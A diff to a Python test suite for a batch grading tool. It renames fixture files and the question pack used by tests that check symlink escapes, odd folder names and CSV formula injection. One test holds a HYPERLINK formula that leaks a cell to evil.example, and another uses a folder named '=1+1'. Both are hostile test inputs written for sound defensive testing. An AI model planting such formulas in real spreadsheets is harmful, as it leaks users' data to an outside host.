@@ -169,10 +169,10 @@ def test_a_student_folder_named_in_bytes_that_are_not_utf8_gets_its_row(tmp_path
     odd = os.fsdecode(b"b\xffb")
     for student in ("ada", odd):
         (submissions / student).mkdir(parents=True)
-        (submissions / student / "total.txt").write_text("a\n", encoding="utf-8")
-        (submissions / student / "status.txt").write_text("b\n", encoding="utf-8")
+        (submissions / student / "pick-a.txt").write_text("a\n", encoding="utf-8")
+        (submissions / student / "pick-b.txt").write_text("b\n", encoding="utf-8")
     out = tmp_path / "grades"
-    code = main(["grade-batch", str(PACKS / "table-columns.yaml"), str(submissions), "-o", str(out)])
+    code = main(["grade-batch", str(PACKS / "choices.yaml"), str(submissions), "-o", str(out)])
     assert code in (0, 1), code
     for table in ("grades.csv", "verdicts.csv", "marks.csv", "results.json", "junit.xml"):
         assert (out / table).exists(), table
@@ -192,10 +192,10 @@ def test_a_submission_that_links_outside_the_class_folder_is_not_read(tmp_path: 
     secret.write_text("s3cr3t-token-of-the-instructor\n", encoding="utf-8")
     submissions = tmp_path / "submissions"
     (submissions / "mallory").mkdir(parents=True)
-    (submissions / "mallory" / "total.txt").symlink_to(secret)
-    (submissions / "mallory" / "status.txt").write_text("b\n", encoding="utf-8")
+    (submissions / "mallory" / "pick-a.txt").symlink_to(secret)
+    (submissions / "mallory" / "pick-b.txt").write_text("b\n", encoding="utf-8")
     out = tmp_path / "grades"
-    main(["grade-batch", str(PACKS / "table-columns.yaml"), str(submissions), "-o", str(out)])
+    main(["grade-batch", str(PACKS / "choices.yaml"), str(submissions), "-o", str(out)])
     for table in out.iterdir():
         assert "s3cr3t" not in table.read_text(encoding="utf-8", errors="replace"), table.name
 
@@ -265,9 +265,9 @@ def test_a_students_text_reaches_no_spreadsheet_as_a_formula(tmp_path: Path) -> 
         '=HYPERLINK("https://evil.example/?leak="&A1,"see my answer")\n', encoding="utf-8"
     )
     (submissions / "=1+1").mkdir()
-    (submissions / "=1+1" / "total.txt").write_text("a\n", encoding="utf-8")
+    (submissions / "=1+1" / "pick-a.txt").write_text("a\n", encoding="utf-8")
     out = tmp_path / "grades"
-    main(["grade-batch", str(PACKS / "table-columns.yaml"), str(submissions), "-o", str(out)])
+    main(["grade-batch", str(PACKS / "choices.yaml"), str(submissions), "-o", str(out)])
     for table in ("marks.csv", "grades.csv", "verdicts.csv"):
         with (out / table).open(newline="", encoding="utf-8") as handle:
             cells = [cell for row in csv.reader(handle) for cell in row]
